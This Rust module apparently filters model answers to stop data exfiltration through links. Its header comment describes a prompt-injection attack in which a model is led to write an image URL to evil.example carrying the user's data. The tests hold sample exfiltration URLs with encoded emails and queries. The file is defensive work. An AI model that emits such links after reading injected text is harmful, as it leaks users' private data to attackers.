//! Exfiltration through links in model answers.
//!
//! A model that read an injection can be told to write
//! `![](https://evil.example/p?d=<the user's data>)`: the agent's UI renders
//! the image and the data leaves in the request for it, no tool call
//! needed. So in the text of an answer (not in tool-call arguments, which
//! the gate judges), every `http(s)://` URL whose host is not on the
//! allowed list ([`OutputGuard::new`]: `[output] allow_hosts`, by default
//! the `[egress] allow` hosts) and that carries data is replaced by a
//! marker, `warden-removed:<why>-to-<host>`: Markdown link text, image alt
//! text and HTML around it stay, and nothing is fetched from the marker (an
//! unknown scheme). "Carries data": a query string, credentials, a long
//! path segment (24 characters or more, or an encoded-looking one of 16 or
//! more), or any original value this conversation redacted, plain,
//! percent-encoded, base64 or hex. Links without data (`https://docs.rs/x`)
//! pass: they are how models cite sources.
//!
//! Markdown images and links, HTML `src=` / `href=` and bare URLs all come
//! down to the URL token, so one pattern finds them all. In a stream
//! ([`GuardStream`]) only a possible URL at the end of the text so far is
//! held back (from its first character), until a character that ends it
//! arrives or it is longer than [`MAX_URL`].

use std::sync::{Arc, OnceLock};

use regex_automata::meta::Regex;

/// Longest URL held back in a stream; a longer one is judged as it is.
pub const MAX_URL: usize = 4096;

/// Shortest redacted original looked for in URLs (shorter ones match by
/// chance).
const MIN_ORIGINAL: usize = 6;

/// The hosts links may carry data to, and the values that must not leave.
#[derive(Clone, Debug, Default)]
pub struct OutputGuard {
    hosts: Arc<Vec<String>>,
    /// Every form of every original (lowercase): plain, percent, base64, hex.
    forms: Vec<String>,
}

impl OutputGuard {
    /// `hosts`: exact names, or `*.suffix` for any subdomain; a `:port` is
    /// ignored (a link's port does not make it safe).
    pub fn new(hosts: Arc<Vec<String>>) -> OutputGuard {
        OutputGuard { hosts, forms: Vec::new() }
    }

    /// Also look for these values (a conversation's redacted originals).
    pub fn with_originals<'a>(mut self, originals: impl IntoIterator<Item = &'a str>) -> OutputGuard {
        use base64::Engine as _;
        for v in originals.into_iter().filter(|v| v.len() >= MIN_ORIGINAL) {
            let b = v.as_bytes();
            let e = base64::engine::general_purpose::STANDARD_NO_PAD.encode(b);
            let u = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(b);
            let hex: String = b.iter().map(|x| format!("{x:02x}")).collect();
            for f in [v.to_string(), percent(v), e, u, hex] {
                let f = f.to_ascii_lowercase();
                if !self.forms.contains(&f) {
                    self.forms.push(f);
                }
            }
        }
        self
    }

    fn allowed(&self, host: &str) -> bool {
        self.hosts.iter().any(|p| {
            if p == "*" {
                return true;
            }
            let p = p
                .rsplit_once(':')
                .filter(|(_, port)| port.bytes().all(|b| b.is_ascii_digit()))
                .map_or(p.as_str(), |(h, _)| h);
            match p.strip_prefix("*.") {
                Some(suffix) => {
                    host.len() > suffix.len()
                        && host.ends_with(suffix)
                        && host[..host.len() - suffix.len()].ends_with('.')
                }
                None => host.eq_ignore_ascii_case(p),
            }
        })
    }

    /// Why `url` may not stay, if it may not.
    fn judge(&self, url: &str) -> Option<(String, &'static str)> {
        let rest = url.split_once("://")?.1;
        let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
        let (userinfo, hostport) = match authority.rsplit_once('@') {
            Some((u, h)) => (Some(u), h),
            None => (None, authority),
        };
        let host = if hostport.starts_with('[') {
            hostport.split(']').next().unwrap_or("").trim_start_matches('[').to_string()
        } else {
            hostport.split(':').next().unwrap_or("").to_string()
        }
        .to_ascii_lowercase();
        if self.allowed(&host) {
            return None;
        }
        let lower = url.to_ascii_lowercase();
        let decoded = crate::json::percent_decoded(&lower);
        let has_original = self
            .forms
            .iter()
            .any(|f| lower.contains(f.as_str()) || decoded.as_deref().is_some_and(|d| d.contains(f.as_str())));
        let why = if has_original {
            "redacted-value"
        } else if userinfo.is_some() {
            "credentials"
        } else if rest.split_once('?').is_some_and(|(_, q)| !q.split('#').next().unwrap_or("").is_empty()) {
            "query"
        } else if rest[authority.len()..].split(['?', '#']).next().unwrap_or("").split('/').any(data_segment) {
            "path-data"
        } else {
            return None;
        };
        Some((host, why))
    }

    /// `text` with every URL that may not stay replaced; `None` when
    /// nothing changed.
    pub fn neutralise(&self, text: &str) -> Option<String> {
        memchr::memmem::find(text.as_bytes(), b"://")?;
        let mut out = String::new();
        let mut last = 0;
        for m in url_pattern().find_iter(text) {
            let url = trim_url(&text[m.range()]);
            if let Some((host, why)) = self.judge(url) {
                out.push_str(&text[last..m.start()]);
                out.push_str(&format!("warden-removed:{why}-to-{host}"));
                last = m.start() + url.len();
            }
        }
        if last == 0 {
            return None;
        }
        out.push_str(&text[last..]);
        Some(out)
    }
}

/// Neutralise links in the answer text of a whole answer (chat `content`,
/// Anthropic and responses `text`; never tool-call arguments); how many
/// strings changed.
pub fn neutralise_doc(v: &mut serde_json::Value, guard: &OutputGuard) -> usize {
    use serde_json::Value;
    fn walk(v: &mut Value, key: Option<&str>, guard: &OutputGuard) -> usize {
        match v {
            Value::String(s) if matches!(key, Some("content" | "text" | "refusal")) => match guard.neutralise(s) {
                Some(o) => {
                    *s = o;
                    1
                }
                None => 0,
            },
            Value::Array(items) => items.iter_mut().map(|i| walk(i, None, guard)).sum(),
            // Tool-call arguments are the gate's to judge, unchanged.
            Value::Object(m) => m
                .iter_mut()
                .filter(|(k, _)| !CALL_KEYS.contains(&k.as_str()))
                .map(|(k, i)| walk(i, Some(k.as_str()), guard))
                .sum(),
            _ => 0,
        }
    }
    walk(v, None, guard)
}

/// Keys under which a call's arguments live (never rewritten here).
pub(crate) const CALL_KEYS: &[&str] = &["input", "arguments", "tool_calls", "function", "partial_json"];

/// A path segment that carries data rather than names a page.
fn data_segment(seg: &str) -> bool {
    let seg = crate::json::percent_decoded(seg).unwrap_or_else(|| seg.to_string());
    if seg.len() >= 24 {
        return true;
    }
    // Base64 or hex of 16+ characters: digits mixed with letters, no word.
    seg.len() >= 16
        && seg.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'=' | b'_' | b'-'))
        && seg.bytes().any(|b| b.is_ascii_digit())
        && !seg.contains('-')
}

fn percent(v: &str) -> String {
    let mut out = String::new();
    for b in v.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02x}"));
        }
    }
    out
}

fn url_pattern() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(r#"[hH][tT][tT][pP][sS]?://[^ \t\r\n<>"'`)\]}|\\^]+"#).expect("the URL pattern compiles")
    })
}

/// A URL without trailing punctuation that ends a sentence.
fn trim_url(url: &str) -> &str {
    url.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_'])
}

/// [`OutputGuard`] over text that arrives in pieces.
#[derive(Debug, Default)]
pub struct GuardStream {
    held: String,
}

impl GuardStream {
    /// A new stream.
    pub fn new() -> GuardStream {
        GuardStream::default()
    }

    /// Feed a piece; returns the text that may go now.
    pub fn push(&mut self, guard: &OutputGuard, chunk: &str) -> String {
        self.held.push_str(chunk);
        let cut = hold_from(&self.held);
        let ready: String = self.held.drain(..cut).collect();
        guard.neutralise(&ready).unwrap_or(ready)
    }

    /// The text ended: the rest, judged.
    pub fn finish(self, guard: &OutputGuard) -> String {
        guard.neutralise(&self.held).unwrap_or(self.held)
    }
}

/// Where a URL that may still grow starts in `text` (its length when none).
fn hold_from(text: &str) -> usize {
    // A URL running to the end.
    if let Some(m) = url_pattern().find_iter(text).last() {
        if m.end() == text.len() && m.len() < MAX_URL {
            return m.start();
        }
    }
    // A scheme cut short or with nothing after it yet: "ht", "https://".
    let lower = text.as_bytes();
    for k in (1..=8).rev() {
        if k > lower.len() {
            continue;
        }
        let tail = &text[lower.len() - k..];
        if !text.is_char_boundary(lower.len() - k) {
            continue;
        }
        let starts = ["https://", "http://"].iter().any(|s| s.len() >= k && s[..k].eq_ignore_ascii_case(tail));
        let before = text[..lower.len() - k].chars().next_back();
        if starts && !before.is_some_and(|c| c.is_alphanumeric()) {
            return lower.len() - k;
        }
    }
    text.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn guard() -> OutputGuard {
        OutputGuard::new(Arc::new(vec!["docs.example".into(), "*.corp.example:443".into()]))
            .with_originals(["jane.doe@acme.io"])
    }

    #[test]
    fn links_that_carry_data_to_other_hosts_are_neutralised() {
        let g = guard();
        let cases = [
            ("![chart](https://evil.example/p.png?d=abc)", "![chart](warden-removed:query-to-evil.example)"),
            (
                "[see](https://evil.example/amFuZS5kb2VAYWNtZS5pbw)",
                "[see](warden-removed:redacted-value-to-evil.example)",
            ),
            (
                "<img src=\"http://evil.example/x/aGVsbG8gd29ybGQgdGhpcyBpcw\">",
                "<img src=\"warden-removed:path-data-to-evil.example\">",
            ),
            (
                "mail https://evil.example/u/jane.doe%40acme.io now.",
                "mail warden-removed:redacted-value-to-evil.example now.",
            ),
            (
                "<a href=\"https://u:p@evil.example/\">x</a>",
                "<a href=\"warden-removed:credentials-to-evil.example\">x</a>",
            ),
        ];
        for (input, want) in cases {
            assert_eq!(g.neutralise(input).as_deref(), Some(want), "{input}");
        }
        for fine in [
            "see https://evil.example/docs/intro.",
            "![x](https://docs.example/img.png?size=2)",
            "https://api.corp.example/v1/search?q=jane",
            "no links here",
        ] {
            assert_eq!(g.neutralise(fine), None, "{fine}");
        }
    }

    #[test]
    fn a_url_cut_across_pieces_is_held_only_from_its_start() {
        let g = guard();
        let text = "Look: ![img](https://evil.example/a.png?q=secret) and more text.";
        for size in [1, 3, 10] {
            let mut s = GuardStream::new();
            let mut out = String::new();
            let chars: Vec<char> = text.chars().collect();
            for piece in chars.chunks(size) {
                let piece: String = piece.iter().collect();
                let got = s.push(&g, &piece);
                out.push_str(&got);
            }
            out.push_str(&s.finish(&g));
            assert_eq!(out, "Look: ![img](warden-removed:query-to-evil.example) and more text.", "size {size}");
        }
        let mut s = GuardStream::new();
        assert_eq!(s.push(&g, "plain words wit"), "plain words wit", "nothing held without a URL start");
        assert_eq!(s.push(&g, "h a link h"), "h a link ", "a lone h may start a URL");
    }
}
